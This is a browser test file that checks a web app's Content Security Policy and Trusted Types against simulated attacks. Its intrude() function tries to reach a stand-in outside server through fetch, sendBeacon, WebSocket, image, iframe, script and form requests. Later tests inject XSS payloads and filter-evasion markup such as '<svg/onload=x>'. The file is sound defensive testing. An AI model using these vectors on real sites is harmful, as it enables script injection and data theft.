// Nothing leaves the page and nothing foreign runs in it. That nothing is violated proves little by
// itself, so here an intruder tries, and each try must be reported and come to nothing.
import { createServer } from "node:http";
import { pathToFileURL } from "node:url";
import { SINGLE_FILE } from "./harness/server.mjs";
import { expect, start, test as base } from "./harness/test.mjs";

const test = base.extend({
  /** Somebody else's server, which must never hear from us. */
  elsewhere: async ({}, use) => {
    const requests = [];
    const server = createServer((request, response) => {
      requests.push(request.url);
      response.writeHead(200, { "access-control-allow-origin": "*" }).end("hello");
    });
    await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
    await use({ url: `http://localhost:${server.address().port}/`, requests });
    server.close();
  },
});

const BUILDS = [
  { name: "dist/", address: (site) => site.url },
  { name: "the single file", address: () => pathToFileURL(SINGLE_FILE).href },
];

for (const build of BUILDS) {
  test(`${build.name}: after loading, not one request and not one violation @both`, async ({ page, site, seen }) => {
    await start(page, build.address(site));
    if (build.name === "dist/") await page.evaluate(() => navigator.serviceWorker.ready.then(() => {}));
    await page.waitForTimeout(500);
    const loaded = [site.requests.length, seen.requests.length];
    await page.keyboard.press("Tab");
    await page.mouse.click(5, 5);
    await page.evaluate(() => (location.hash = "#/somewhere"));
    await page.waitForTimeout(1_500);
    expect(site.requests.slice(loaded[0])).toEqual([]);
    expect(seen.requests.slice(loaded[1])).toEqual([]);
    expect(seen.violations).toEqual([]);
  });

  test(`${build.name}: an intruder's tries are refused @both`, async ({ page, site, seen, elsewhere }) => {
    await start(page, build.address(site));
    await page.evaluate(intrude, elsewhere.url);
    await page.waitForTimeout(500);
    expect(await page.evaluate(() => window.__intruder ?? [])).toEqual([]);
    expect(elsewhere.requests).toEqual([]);
    const refused = new Set(seen.violations.map(({ directive }) => directive));
    for (const directive of [
      "connect-src",
      "img-src",
      "style-src-elem",
      "frame-src",
      "form-action",
      "base-uri",
      "script-src-elem",
      "require-trusted-types-for",
    ]) {
      expect(refused, directive).toContain(directive);
    }
  });
}

/** Runs in the page. What succeeds leaves its name in `window.__intruder`. */
function intrude(elsewhere) {
  window.__intruder = [];
  const attempt = (act) => {
    try {
      act();
    } catch {
      // Refused on the spot.
    }
  };
  const make = (name, properties) => Object.assign(document.createElement(name), properties);
  const tries = [
    () => fetch(elsewhere).then(() => window.__intruder.push("fetch")).catch(() => {}),
    () => navigator.sendBeacon(elsewhere, "x"),
    () => new WebSocket(elsewhere.replace("http", "ws")),
    () => new EventSource(elsewhere),
    () => document.body.append(make("img", { src: elsewhere, onload: () => window.__intruder.push("img") })),
    () => document.body.append(make("iframe", { src: elsewhere })),
    () => document.body.append(make("object", { data: elsewhere })),
    () => document.head.append(make("link", { rel: "stylesheet", href: elsewhere })),
    () => document.head.append(make("base", { href: elsewhere })),
    () => {
      const form = make("form", { action: elsewhere, method: "post" });
      document.body.append(form);
      form.submit();
    },
    () => document.body.append(make("script", { textContent: "window.__intruder.push('inline script')" })),
    () => document.body.append(make("script", { src: elsewhere })),
    () => import(elsewhere).catch(() => {}),
    () => setTimeout("window.__intruder.push('timer text')", 0),
    () => (make("div", {}).innerHTML = "<img src=x onerror=\"window.__intruder.push('handler')\">"),
    () => (make("div", {}).innerHTML = "<svg><a href='javascript:0'>x</a></svg>"),
    () => document.body.insertAdjacentHTML("beforeend", "<script>window.__intruder.push('markup')</script>"),
    () => new Worker(elsewhere),
    () => {
      const styled = make("style", { textContent: "body { --intruder: 1 }" });
      document.head.append(styled);
      const seen = getComputedStyle(document.body).getPropertyValue("--intruder");
      if (seen) window.__intruder.push("style");
    },
    () => make("a", { href: "javascript:window.__intruder.push('link')" }).click(),
  ];
  tries.forEach(attempt);
}

test("dist/: what a host slips into the page does not run @both", async ({ page, site, seen }) => {
  site.answer(/^index\.html$/, ({ body }) => ({
    body: String(body).replace(
      "</body>",
      "<script>window.__slipped = 1</script><img src=x onerror='window.__slipped = 2'></body>",
    ),
  }));
  await start(page, site.url);
  await page.waitForTimeout(300);
  expect(await page.evaluate(() => window.__slipped)).toBeUndefined();
  expect(seen.violations.map(({ directive }) => directive).sort()).toEqual(["script-src-attr", "script-src-elem"]);
});

test("compile-time markup passes the door that refuses what could run @both", async ({ page, site, seen }) => {
  await start(page, site.url);
  const passes = await page.evaluate(() => {
    const through = (markup) => {
      try {
        document.createElement("template").innerHTML = markup;
        return true;
      } catch {
        return false;
      }
    };
    return {
      plain: through('<p class="a">text</p>'),
      chart: through('<svg viewBox="0 0 1 1" role="img"><title>On time = good</title><path d="M0 0"></path></svg>'),
      wordsOnly: through("<p>based on x = 1, and onwards=no</p>"),
      inAttribute: through('<p title="turn on = off">x</p>'),
      handler: through("<p onclick=x>"),
      handlerAfterSlash: through("<svg/onload=x>"),
      handlerAfterQuote: through('<p title="a>b"onclick="x">'),
      handlerOnNewLine: through("<p\nonclick\n=x>"),
      script: through("<script>x</script>"),
      upperCaseScript: through("<SCRIPT>x</SCRIPT>"),
      address: through('<a href="javascript:x">y</a>'),
      frame: through('<iframe srcdoc="x"></iframe>'),
    };
  });
  expect(passes).toEqual({
    plain: true,
    chart: true,
    wordsOnly: true,
    inAttribute: true,
    handler: false,
    handlerAfterSlash: false,
    handlerAfterQuote: false,
    handlerOnNewLine: false,
    script: false,
    upperCaseScript: false,
    address: false,
    frame: false,
  });
  // Nothing got so far that another rule had to stop it.
  expect(seen.violations.filter(({ directive }) => directive !== "require-trusted-types-for")).toEqual([]);
});
